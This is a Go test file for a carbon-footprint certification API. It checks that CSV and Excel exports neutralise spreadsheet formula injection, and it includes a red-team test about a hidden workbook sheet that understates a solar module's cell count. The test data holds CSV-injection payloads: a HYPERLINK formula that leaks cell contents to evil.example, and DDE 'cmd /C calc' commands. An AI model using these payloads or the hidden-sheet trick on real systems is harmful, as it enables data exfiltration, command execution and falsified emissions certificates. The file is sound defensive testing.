package api_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/chengdu-pcf/pcf/api"
	"github.com/chengdu-pcf/pcf/footprint/footprinttest"
	"github.com/chengdu-pcf/pcf/footprint/tabular"
	"github.com/chengdu-pcf/pcf/seed/seedtest"
	"github.com/xuri/excelize/v2"
)

// formulaNames are BOM line names that a spreadsheet would run as a formula
// if a file wrote them as they are (OWASP "CSV injection"), with the CSV
// cell that neutralises each; "-1.5" is a number, not a formula, and stays.
var formulaNames = [][2]string{
	{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"-2+3", "'-2+3"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\tTAB", "'\tTAB"},
	{"-1.5", "-1.5"},
}

// formulaStudy is the demo PV module with its first BOM leaves renamed to
// formulaNames; it returns the study and the path of each renamed leaf.
func formulaStudy(tb testing.TB) ([]byte, []string) {
	tb.Helper()
	doc := mustDoc(tb, pvStudy(tb, "GEC-U-F"))
	var paths []string
	var walk func(lines []any, prefix string)
	walk = func(lines []any, prefix string) {
		for i, l := range lines {
			line := l.(map[string]any)
			path := prefix + "[" + strconv.Itoa(i) + "]"
			if children, ok := line["children"].([]any); ok && len(children) > 0 {
				walk(children, path+".children")
			} else if len(paths) < len(formulaNames) {
				line["name"] = formulaNames[len(paths)][0]
				paths = append(paths, path)
			}
		}
	}
	walk(doc["bom"].([]any), "bom")
	if len(paths) < len(formulaNames) {
		tb.Fatalf("the demo study has %d BOM leaves, want %d", len(paths), len(formulaNames))
	}
	return seedtest.MustMarshal(tb, doc), paths
}

func TestServer_ResultCSVForPeople(t *testing.T) {
	// Ensure result.csv opens right in Chinese Excel (UTF-8 byte-order
	// mark) and runs no formula: text cells that begin with = + - @ or a
	// tab are prefixed with an apostrophe, numbers (negative ones too) are
	// left as numbers.
	st := newSeededStack(t)
	doc, paths := formulaStudy(t)
	study := MustData[studyData](t, st.do(t, request{method: "POST", target: "/v1/studies", as: asMaker, contentType: "application/json", body: doc}), 201)
	body := st.do(t, request{method: "GET", target: "/v1/studies/" + study.ID + "/result.csv", as: asMaker}).Body.String()
	if !strings.HasPrefix(body, "\ufeffpath,") {
		t.Fatalf("result.csv starts %q, want a UTF-8 byte-order mark then the header", body[:min(len(body), 12)])
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]string{} // path → description
	for _, row := range rows[1:] {
		names[row[0]] = row[1]
		for _, j := range []int{3, 7, 9, 10} { // quantity, factor_value, kgco2e, share_pct
			if row[j] != "" {
				if _, err := strconv.ParseFloat(row[j], 64); err != nil {
					t.Errorf("%s: number column %s = %q, not a number", row[0], rows[0][j], row[j])
				}
			}
		}
	}
	for i, n := range formulaNames {
		path := paths[i]
		got, ok := names[path]
		if !ok {
			t.Fatalf("no row for %s", path)
		}
		if got != n[1] {
			t.Errorf("%s description = %q, want %q", path, got, n[1])
		}
	}
}

func TestServer_ResultXLSXForPeople(t *testing.T) {
	// Ensure result.xlsx has numbers as numbers, empty number cells (an
	// exempted item has no factor value or share) as no cell at all rather
	// than '' text, formula-like names as text, columns wide enough to read
	// and the header row frozen.
	st := newSeededStack(t)
	doc, _ := formulaStudy(t)
	study := MustData[studyData](t, st.do(t, request{method: "POST", target: "/v1/studies", as: asMaker, contentType: "application/json", body: doc}), 201)
	rec := st.do(t, request{method: "GET", target: "/v1/studies/" + study.ID + "/result.xlsx", as: asMaker})
	if rec.Code != 200 {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	f, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Lines", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	isText := func(cell string) bool {
		typ, err := f.GetCellType("Lines", cell)
		if err != nil {
			t.Fatal(err)
		}
		return typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString
	}
	exempted := 0
	for i, row := range rows[1:] {
		r := strconv.Itoa(i + 2)
		section := row[len(row)-1]
		for _, col := range []string{"D", "H", "J", "K"} { // quantity, factor_value, kgco2e, share_pct
			cell := col + r
			v, err := f.GetCellValue("Lines", cell, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			if isText(cell) {
				t.Errorf("%s (%s row) is text %q, want a number or no cell", cell, section, v)
			} else if v != "" {
				if _, err := strconv.ParseFloat(v, 64); err != nil {
					t.Errorf("%s = %q, not a number", cell, v)
				}
			}
		}
		if section == "exempted" {
			exempted++
			for _, cell := range []string{"H" + r, "K" + r} {
				if v, _ := f.GetCellValue("Lines", cell); v != "" || isText(cell) {
					t.Errorf("exempted row %s: %s = %q, want no cell", r, cell, v)
				}
			}
		}
		if strings.HasPrefix(row[1], "=") {
			if formula, _ := f.GetCellFormula("Lines", "B"+r); formula != "" || !isText("B"+r) || row[1] != formulaNames[0][0] {
				t.Errorf("B%s = %q (formula %q), want the text %q", r, row[1], formula, formulaNames[0][0])
			}
		}
	}
	if exempted == 0 {
		t.Fatal("the demo study has no exempted row to check")
	}
	for _, sheet := range []string{"Stages", "Lines", "Factors"} {
		panes, err := f.GetPanes(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: panes %+v, want the header row frozen", sheet, panes)
		}
	}
	for col, min := range map[string]float64{"A": 10, "B": 20} { // path, description
		w, err := f.GetColWidth("Lines", col)
		if err != nil {
			t.Fatal(err)
		}
		if w < min || w > 60 {
			t.Errorf("Lines column %s width %v, want %v to 60", col, w, min)
		}
	}
}

// Red-team 22, end to end: the demo PV module uploaded as an Excel BOM
// whose only visible sheet ("材料清单") holds its real bill of materials,
// plus a hidden sheet named "BOM" listing 48 solar cells instead of 54.
// Anyone who opens the workbook sees the real BOM (54 cells); the service
// reads the hidden sheet (readBOMXLSX prefers a sheet named BOM, visible or
// not) and certifies 140.6 kgCO2e instead of the JSON study's 150.1
// (−6.3 %), no warning. 48 passes the engine's checks (at least 45 cells
// give the rated 433.6 Wp; at 45 the cut-off share passes 5 %); a hidden
// sheet that also trims the exempt lines goes further.
// rt22Cells is the hidden sheet's count of solar cells.
const rt22Cells = 48

func TestRT22_HiddenBOMSheetCertifiesLessThanShown(t *testing.T) {
	st := newSeededStack(t)
	asJSON := MustData[studyData](t, st.do(t, request{method: "POST", target: "/v1/studies", as: asMaker, contentType: "application/json", body: pvStudy(t, "GEC-R22-0")}), 201)

	rows, header := bomUploadParts(t, "GEC-R22-1")

	// The hidden copy: the solar cells, the line that carries most of the
	// module's footprint, at rt22Cells instead of 54.
	hidden := make([][]string, len(rows))
	for i, r := range rows {
		hidden[i] = append([]string(nil), r...)
		if i > 0 && r[4] == "PV-CELL-MONO182" {
			hidden[i][2] = strconv.Itoa(rt22Cells)
		}
	}
	shown := footprinttest.BOMSheet(rows)
	shown.Name = "材料清单"
	b, err := api.Workbook(shown, footprinttest.BOMSheet(hidden))
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.SetSheetVisible("BOM", false); err != nil {
		t.Fatal(err)
	}
	f.SetActiveSheet(0)
	var out bytes.Buffer
	if err := f.Write(&out); err != nil {
		t.Fatal(err)
	}
	f.Close()

	body, ct := multipartBody(t, map[string][2]string{"bom": {"bom.xlsx", out.String()}}, map[string]string{"study": string(header)})
	rec := st.do(t, request{method: "POST", target: "/v1/studies", as: asMaker, contentType: ct, body: body})
	if rec.Code >= 400 && rec.Code < 500 {
		t.Logf("refused: %s", rec.Body)
		return // refused: what a correct service does
	}
	got := MustData[studyData](t, rec, 201)
	if *got.KgCO2e != *asJSON.KgCO2e {
		t.Errorf("certified %.1f kgCO2e from the hidden sheet \"BOM\"; the visible sheet is the JSON study's BOM, %.1f kgCO2e", *got.KgCO2e, *asJSON.KgCO2e)
	}
}

// BenchmarkReadBOMXLSX reads an Excel BOM of rows lines (MaxBOMRows at
// the most) as an upload does, with the checks of what a viewer sees.
func BenchmarkReadBOMXLSX(b *testing.B) {
	for _, rows := range []int{1000, tabular.MaxBOMRows} {
		b.Run(fmt.Sprintf("rows=%d", rows), func(b *testing.B) {
			f := excelize.NewFile()
			sw, err := f.NewStreamWriter("Sheet1")
			if err != nil {
				b.Fatal(err)
			}
			sw.SetRow("A1", []any{"level", "description", "quantity", "unit", "factor_code"})
			for r := 2; r <= rows+1; r++ {
				cell, _ := excelize.CoordinatesToCellName(1, r)
				if err := sw.SetRow(cell, []any{1, "Frame " + strconv.Itoa(r), 1.5, "kg", "PV-AL-PROFILE"}); err != nil {
					b.Fatal(err)
				}
			}
			sw.Flush()
			var buf bytes.Buffer
			if err := f.Write(&buf); err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			for b.Loop() {
				bom, err := api.ReadBOM("bom.xlsx", buf.Bytes())
				if err != nil || len(bom.Sections["bom"]) != rows {
					b.Fatalf("%v, %d lines", err, len(bom.Sections["bom"]))
				}
			}
		})
	}
}
